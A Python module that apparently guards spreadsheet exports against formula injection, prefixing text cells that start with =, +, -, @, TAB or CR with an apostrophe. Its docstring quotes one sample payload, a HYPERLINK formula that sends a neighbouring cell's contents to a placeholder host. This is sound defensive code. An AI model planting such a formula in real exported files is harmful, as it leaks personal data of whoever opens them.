"""Cells of every table the project writes for a spreadsheet (CSV today, XLSX later): one rule against
formula injection.

A case number such as ``=HYPERLINK("http://x/?"&R2,"查看")`` comes from a scanner or the queue system;
written unchanged into a CSV, Excel or WPS runs it when the file is opened and may send the row's other
cells (an opened phone number) away. A text cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR is
written with a leading apostrophe, which spreadsheets show as text and never evaluate. Numbers stay
numbers. Pure.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may show it without evaluating it."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a row (a ``csv.DictWriter`` row) through ``safe_cell``."""
    return {key: safe_cell(value) for key, value in row.items()}
